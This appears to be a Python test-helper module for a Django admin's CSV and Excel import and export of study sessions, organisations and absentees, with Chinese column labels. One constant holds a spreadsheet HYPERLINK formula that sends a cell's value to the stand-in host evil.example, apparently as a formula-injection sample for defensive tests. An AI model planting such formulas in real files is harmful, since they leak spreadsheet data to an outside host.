"""Driving the admin's import and export as a user does, and reading the files it gives back.

Exports are parsed back (csv, openpyxl); imports go through the library's two steps (the
preview posts the file, the confirmation posts the stored file's name). Messages of this
feature are asserted in English or Chinese (`said`), as the Chinese arrives with the catalogue.
"""

from __future__ import annotations

import csv
import datetime
import html
import io
import itertools
import re
from dataclasses import dataclass

import openpyxl
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from campaign import services
from campaign.choices import SessionFormat
from campaign.exchange.resources import (
    OrganisationResource,
    ReflectionResource,
    StudySessionResource,
)
from campaign.models import Absentee, Organisation, StudySession
from documents.models import LearningPoint

RESOURCES = {
    "studysession": StudySessionResource,
    "reflection": ReflectionResource,
    "organisation": OrganisationResource,
}


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def said(text: str, english: str, chinese: str) -> bool:
    """Whether `text` carries a message of this feature, in English (before the catalogue has
    its Chinese) or in Chinese."""
    return english in text or chinese in text


def page(response) -> str:
    return html.unescape(response.content.decode())


def column(model: str, field: str) -> str:
    """A column's name as the admin names it (the language of the tests is Chinese)."""
    return RESOURCES[model]().fields[field].column_name


def format_index(title: str) -> str:
    titles = [f().get_title() for f in settings.IMPORT_EXPORT_FORMATS]
    return str(titles.index(title))


def points(*numbers: int) -> list[LearningPoint]:
    return list(LearningPoint.objects.filter(number__in=numbers).order_by("number"))


def short_names(*numbers: int) -> str:
    return "、".join(point.short_name for point in points(*numbers))


def export(client, model: str, file_format: str = "csv", query: str = "", extra=None):
    """POST the admin's export form (every column ticked) and parse the file: a list of dicts."""
    resource = RESOURCES[model]
    prefix = resource.__name__.lower()
    data = {"format": format_index(file_format), "resource": "0"}
    data.update({f"{prefix}_{name}": "on" for name in resource().get_export_order()})
    data.update(extra or {})
    response = client.post(reverse(f"admin:campaign_{model}_export") + query, data)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    return parse(response.content, file_format), response.content


def parse(content: bytes, file_format: str) -> list[dict]:
    if file_format == "csv":
        assert content.startswith(b"\xef\xbb\xbf"), "a CSV for Excel starts with a BOM"
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    headers, *body = rows
    return [dict(zip(headers, row, strict=True)) for row in body]


def csv_file(rows: list[list]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")


def xlsx_file(rows: list[list]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def upload(client, model: str, content: bytes, name: str = "data.csv", file_format: str = "csv"):
    """Step one: the file is read, checked and tried (a dry run)."""
    return client.post(
        reverse(f"admin:campaign_{model}_import"),
        {
            "resource": "0",
            "format": format_index(file_format),
            "import_file": SimpleUploadedFile(name, content),
        },
    )


def confirm(client, model: str, preview):
    """Step two: the confirmation the preview's form posts (the id of the previewed file)."""
    form = preview.context["confirm_form"]
    return client.post(
        reverse(f"admin:campaign_{model}_process_import"),
        {"import_job": form.initial["import_job"]},
    )


def import_file(client, model: str, content: bytes, name="data.csv", file_format="csv"):
    preview = upload(client, model, content, name, file_format)
    assert preview.status_code == 200
    assert preview.context.get("confirm_form") is not None, bad_rows(preview) or page(preview)
    return preview, confirm(client, model, preview)


def bad_rows(response) -> dict[int, str]:
    """The rows the preview refuses: {row in the file: the text of its errors}."""
    cells = re.findall(
        r'<td class="row-number">(\d+)</td>\s*<td class="errors">(.*?)</td>',
        response.content.decode(),
        re.S,
    )
    return {int(n): html.unescape(re.sub(r"<[^>]+>", " ", errors)) for n, errors in cells}


def file_errors(response) -> str:
    """The errors of the file field (a file refused as a whole before any row is read)."""
    form = response.context["form"]
    return " ".join(form.errors.get("import_file", []))


def session_fields() -> list[str]:
    """The fields of a sessions file, in its order: the resource's own (`Meta.fields`) less what
    it only exports (the unit's name and district, who recorded it). The columns' names as users
    see them are spelled out once, in test_export."""
    resource = StudySessionResource()
    return [name for name in resource.get_import_order() if name not in resource.export_only]


def session_header() -> list[str]:
    return [column("studysession", name) for name in session_fields()]


def session_row(code="HP-GH-01", held_on=None, title="学习李斌精神", **overrides) -> list:
    values = {
        "id": "",
        "organisation": code,
        "held_on": held_on or (timezone.localdate() - datetime.timedelta(days=2)).isoformat(),
        "title": title,
        "session_format": "集中学习",
        "points": short_names(1, 3),
        "host": "王书记",
        "venue": "职工之家",
        "participants": "20",
        "party_members": "8",
        "absentees": "",
        "absence_note": "",
        "made_up": "",
        "summary": "学习《决定》全文。",
        **overrides,
    }
    fields = session_fields()
    assert set(values) <= set(fields), set(values) - set(fields)
    return [values[name] for name in fields]


_titles = itertools.count(1)


def recorded(
    organisation,
    *,
    days_ago: int = 3,
    title: str | None = None,
    absentees=(),
    absence_note: str = "",
    made_up=(),
    numbers=(1, 2),
    by=None,
) -> StudySession:
    """A session as the portal records one, with its absentees ((name, reason, note) triples)
    and the absentees (`Absentee` rows) it makes up for."""
    return services.session_record(
        by=by,
        organisation=organisation,
        held_on=timezone.localdate() - datetime.timedelta(days=days_ago),
        title=title or f"缺席与补课{next(_titles)}",
        format=SessionFormat.GROUP_STUDY,
        points=points(*numbers),
        participants=20,
        party_members=8,
        absentees=absentees,
        absence_note=absence_note,
        made_up=made_up,
    )


def absentee(session: StudySession, name: str) -> Absentee:
    return Absentee.objects.get(session=session, name=name)


@dataclass
class Snapshot:
    """What an import must leave alone: rows, history and every field value, absentees and
    make-ups included."""

    sessions: list
    history: int
    organisations: list
    absentees: list

    @classmethod
    def take(cls) -> Snapshot:
        return cls(
            sessions=[
                (values, sorted(s.points.values_list("pk", flat=True)))
                for s in StudySession.objects.order_by("pk")
                for values in [StudySession.objects.filter(pk=s.pk).values().get()]
            ],
            history=StudySession.history.count(),
            organisations=list(Organisation.objects.order_by("pk").values()),
            absentees=list(Absentee.objects.order_by("pk").values()),
        )


def organisation_rows(*rows) -> bytes:
    header = [
        column("organisation", n)
        for n in ("code", "name", "kind", "district", "parent", "is_active")
    ]
    return csv_file([header, *rows])
